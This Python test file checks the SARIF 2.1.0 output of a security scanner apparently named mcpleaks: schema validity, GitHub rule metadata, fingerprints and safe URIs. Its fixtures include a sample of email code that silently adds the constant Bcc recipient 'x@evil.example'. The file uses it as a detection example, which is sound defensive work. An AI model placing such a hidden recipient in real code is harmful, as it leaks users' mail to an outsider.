"""SARIF output: valid against the 2.1.0 schema and carrying what GitHub code scanning reads."""
from __future__ import annotations

import json
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlsplit

import jsonschema
import pytest

from analyzer import __version__
from analyzer.model import Finding, Location, Note, Rule, ScanResult
from analyzer.report import sarif
from analyzer.report.fingerprints import line_hashes

SCHEMA_PATH = Path(__file__).resolve().parent / "data" / "sarif-schema-2.1.0.json"  # a copy of ../shared/sarif/

DOCS = """## What it finds
Email-sending code that adds a constant Bcc recipient.

## Why it matters
Every message is copied to a stranger.

## Example
```python
msg["Bcc"] = "x@evil.example"
```

## Fix
Take recipients from the caller only.
"""

SOURCE = 'import smtplib\n\nATTACKER = "x@evil.example"\n\ndef send(msg):\n    msg["Bcc"] = ATTACKER\n'


def make_rule(rule_id: str = "hidden-email-recipient", **changes: Any) -> Rule:
    fields: dict[str, Any] = {
        "id": rule_id,
        "name": "HiddenEmailRecipient",
        "category": "hidden-recipient",
        "severity": "error",
        "message": "Email gets a constant hidden recipient",
        "languages": ("python",),
        "docs": DOCS,
        "confidence": "high",
        "cwe": ("CWE-506",),
        "owasp": ("MCP04",),
        "security_severity": 9.0,
    }
    return Rule(**(fields | changes))


def make_finding(path: str = "src/server.py", **changes: Any) -> Finding:
    fields: dict[str, Any] = {
        "rule_id": "hidden-email-recipient",
        "path": path,
        "line": 6,
        "col": 5,
        "end_line": 6,
        "end_col": 26,
        "message": "Bcc is set to a constant address",
        "severity": "error",
        "snippet": '    msg["Bcc"] = ATTACKER',
        "related": (Location(path, 3, 1, 3, 9, "constant defined here"),),
    }
    return Finding(**(fields | changes))


NOTES = [
    Note("vendor/huge.js", "file larger than 2 MB, skipped", "warning", "too-large"),
    Note("src/broken.py", "cannot parse: invalid syntax at line 3", "error", "parse-error"),
]
RULES = [
    make_rule(),
    make_rule("secret-in-system-prompt", name="SecretInSystemPrompt", category="secret-in-prompt",
              severity="note", confidence="medium", cwe=("CWE-200", "CWE-532"), owasp=("MCP01", "MCP10"),
              security_severity=6.5),
]


@pytest.fixture
def root(tmp_path: Path) -> Path:
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "server.py").write_text(SOURCE)
    return tmp_path


def render_sarif(root: Path, result: ScanResult, rules: list[Rule] = RULES, **options: Any) -> dict[str, Any]:
    output = sarif.render(result, rules, root, **options)
    assert output.endswith("\n") and output.isascii()
    return json.loads(output)


def validate(log: dict[str, Any]) -> None:
    schema = json.loads(SCHEMA_PATH.read_text())
    validator = jsonschema.Draft7Validator(schema, format_checker=jsonschema.Draft7Validator.FORMAT_CHECKER)
    errors = sorted(validator.iter_errors(log), key=str)
    assert not errors, "\n".join(e.message for e in errors)


def full_result() -> ScanResult:
    return ScanResult(findings=[make_finding()], notes=list(NOTES), files_scanned=4)


def test_validates_with_findings_notes_and_related_locations(root: Path) -> None:
    log = render_sarif(root, full_result())
    validate(log)
    assert log["runs"][0]["results"][0]["relatedLocations"]
    assert log["runs"][0]["invocations"][0]["toolExecutionNotifications"]


@pytest.mark.parametrize("rules", [RULES, []])
def test_validates_with_zero_findings(root: Path, rules: list[Rule]) -> None:
    log = render_sarif(root, ScanResult(files_scanned=0), rules)
    validate(log)
    run = log["runs"][0]
    assert run["results"] == []
    assert [rule["id"] for rule in run["tool"]["driver"]["rules"]] == [rule.id for rule in rules]


def test_log_header_and_single_run(root: Path) -> None:
    log = render_sarif(root, full_result())
    assert log["$schema"] == "https://json.schemastore.org/sarif-2.1.0.json"
    assert log["version"] == "2.1.0"
    assert len(log["runs"]) == 1
    run = log["runs"][0]
    assert run["columnKind"] == "unicodeCodePoints"
    assert run["originalUriBaseIds"] == {"%SRCROOT%": {"uri": root.as_uri() + "/"}}
    assert run["automationDetails"] == {"id": "mcpleaks/"}


def test_automation_id_option(root: Path) -> None:
    log = render_sarif(root, full_result(), automation_id="mcpleaks/servers/")
    assert log["runs"][0]["automationDetails"]["id"] == "mcpleaks/servers/"


def test_driver_lists_every_active_rule_with_github_metadata(root: Path) -> None:
    driver = render_sarif(root, full_result())["runs"][0]["tool"]["driver"]
    assert driver["name"] == "mcpleaks"
    assert driver["version"] == driver["semanticVersion"] == __version__
    assert driver["informationUri"] == "https://github.com/mcpleaks/mcpleaks"
    by_id = {rule["id"]: rule for rule in driver["rules"]}
    assert set(by_id) == {"hidden-email-recipient", "secret-in-system-prompt"}  # one has no result

    rule = by_id["hidden-email-recipient"]
    assert rule["name"] == "HiddenEmailRecipient"
    assert rule["shortDescription"] == {"text": "Email gets a constant hidden recipient"}
    assert rule["fullDescription"] == {"text": "Email-sending code that adds a constant Bcc recipient."}
    assert rule["help"] == {"text": DOCS, "markdown": DOCS}
    assert rule["defaultConfiguration"] == {"level": "error"}
    props = rule["properties"]
    assert props["tags"] == ["security", "external/cwe/cwe-506", "owasp-mcp/MCP04", "hidden-recipient"]
    assert isinstance(props["security-severity"], str) and float(props["security-severity"]) == 9.0
    assert props["security-severity"] == "9.0"
    assert props["precision"] == "high"
    assert props["problem.severity"] == "error"
    assert props["category"] == "hidden-recipient"

    other = by_id["secret-in-system-prompt"]["properties"]
    assert other["tags"] == [
        "security",
        "external/cwe/cwe-200",
        "external/cwe/cwe-532",
        "owasp-mcp/MCP01",
        "owasp-mcp/MCP10",
        "secret-in-prompt",
    ]
    assert other["security-severity"] == "6.5"
    assert other["precision"] == "medium"
    assert other["problem.severity"] == "recommendation"
    assert by_id["secret-in-system-prompt"]["defaultConfiguration"] == {"level": "note"}


def test_tags_are_distinct_and_at_most_twenty(root: Path) -> None:
    rule = make_rule(cwe=tuple(f"CWE-{n}" for n in range(30)) + ("CWE-0",))
    tags = render_sarif(root, ScanResult(), [rule])["runs"][0]["tool"]["driver"]["rules"][0]["properties"]["tags"]
    assert len(tags) == 20 and len(set(tags)) == 20
    assert tags[0] == "security"


def test_full_description_falls_back_to_the_message_without_docs_section(root: Path) -> None:
    rule = make_rule(docs="No headings here.")
    described = render_sarif(root, ScanResult(), [rule])["runs"][0]["tool"]["driver"]["rules"][0]
    assert described["fullDescription"] == {"text": rule.message}


def test_result_fields(root: Path) -> None:
    finding = make_finding()
    run = render_sarif(root, full_result())["runs"][0]
    (result,) = run["results"]
    assert result["ruleId"] == "hidden-email-recipient"
    assert run["tool"]["driver"]["rules"][result["ruleIndex"]]["id"] == result["ruleId"]
    assert result["level"] == "error"
    assert result["message"]["text"].startswith("Bcc is set to a constant address")
    assert result["properties"] == {"category": "hidden-recipient"}

    (location,) = result["locations"]
    artifact = location["physicalLocation"]["artifactLocation"]
    assert artifact == {"uri": "src/server.py", "uriBaseId": "%SRCROOT%"}
    assert location["physicalLocation"]["region"] == {
        "startLine": 6,
        "startColumn": 5,
        "endLine": 6,
        "endColumn": 26,
        "snippet": {"text": '    msg["Bcc"] = ATTACKER'},
    }
    fingerprints = result["partialFingerprints"]
    assert fingerprints["mcpleaks/v1"] == finding.fingerprint()
    assert fingerprints["primaryLocationLineHash"] == line_hashes(SOURCE)[6]


def test_related_locations_have_ids_messages_and_links(root: Path) -> None:
    finding = make_finding(related=(
        Location("src/server.py", 3, 1, 3, 9, "constant defined here"),
        Location("src/util.py", 10, 5, 10, 12, ""),
    ))
    (result,) = render_sarif(root, ScanResult(findings=[finding]))["runs"][0]["results"]
    first, second = result["relatedLocations"]
    assert first["id"] == 1 and first["message"] == {"text": "constant defined here"}
    assert first["physicalLocation"]["artifactLocation"] == {"uri": "src/server.py", "uriBaseId": "%SRCROOT%"}
    assert first["physicalLocation"]["region"] == {"startLine": 3, "startColumn": 1, "endLine": 3, "endColumn": 9}
    assert second["id"] == 2 and "message" not in second
    text = result["message"]["text"]
    assert "[constant defined here](1)" in text
    assert "[src/util.py:10](2)" in text


def test_link_like_brackets_in_messages_are_escaped(root: Path) -> None:
    finding = make_finding(message="Sends [the token](0) away", related=())
    (result,) = render_sarif(root, ScanResult(findings=[finding]))["runs"][0]["results"]
    assert result["message"]["text"] == "Sends \\[the token\\](0) away"


def test_primary_location_line_hash_matches_github_fixture(tmp_path: Path) -> None:
    # github/codeql-action src/testdata/testFile1.js, alert on line 1: 5e4d5a9cf1294ad9:1
    (tmp_path / "testFile1.js").write_text("var a = 0;\nvar b = 0;\nvar c = 0;\nvar d = 0;\n")
    finding = make_finding("testFile1.js", line=1, col=1, end_line=1, end_col=10, snippet="var a = 0;", related=())
    (result,) = render_sarif(tmp_path, ScanResult(findings=[finding]))["runs"][0]["results"]
    assert result["partialFingerprints"]["primaryLocationLineHash"] == "5e4d5a9cf1294ad9:1"


def test_unreadable_file_keeps_only_the_mcpleaks_fingerprint(root: Path) -> None:
    finding = make_finding("src/gone.py")
    (result,) = render_sarif(root, ScanResult(findings=[finding]))["runs"][0]["results"]
    assert result["partialFingerprints"] == {"mcpleaks/v1": finding.fingerprint()}


def test_never_reads_a_file_outside_the_root(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    root.mkdir()
    (tmp_path / "secret.py").write_text(SOURCE)
    (root / "link.py").symlink_to(tmp_path / "secret.py")
    findings = [make_finding("link.py"), make_finding("../secret.py")]
    results = render_sarif(root, ScanResult(findings=findings))["runs"][0]["results"]
    assert [set(result["partialFingerprints"]) for result in results] == [{"mcpleaks/v1"}] * 2


@pytest.mark.parametrize("path", ["src/my server.py", "src/caf\u00e9.py", "src/a#b?.py", "c:d/x.py", "100%.py"])
def test_uris_are_relative_percent_encoded_references(root: Path, path: str) -> None:
    finding = make_finding(path, related=())
    log = render_sarif(root, ScanResult(findings=[finding]))
    validate(log)
    uri = log["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
    parts = urlsplit(uri)
    assert parts.scheme == "" and parts.netloc == "" and parts.query == "" and parts.fragment == ""
    assert not uri.startswith("/") and uri.isascii() and " " not in uri
    assert unquote(uri) == path


def test_notes_become_tool_execution_notifications(root: Path) -> None:
    invocation = render_sarif(root, full_result())["runs"][0]["invocations"][0]
    assert invocation["executionSuccessful"] is True
    notifications = invocation["toolExecutionNotifications"]
    assert [(n["level"], n["message"]["text"], n["descriptor"]["id"]) for n in notifications] == [
        ("error", "cannot parse: invalid syntax at line 3", "parse-error"),
        ("warning", "file larger than 2 MB, skipped", "too-large"),
    ]
    uris = [n["locations"][0]["physicalLocation"]["artifactLocation"] for n in notifications]
    assert uris == [
        {"uri": "src/broken.py", "uriBaseId": "%SRCROOT%"},
        {"uri": "vendor/huge.js", "uriBaseId": "%SRCROOT%"},
    ]


def test_output_is_deterministic_whatever_the_rule_order(root: Path) -> None:
    once = sarif.render(full_result(), RULES, root)
    assert sarif.render(full_result(), list(reversed(RULES)), root) == once
    reversed_notes = ScanResult(findings=[make_finding()], notes=list(reversed(NOTES)), files_scanned=4)
    assert sarif.render(reversed_notes, RULES, root) == once
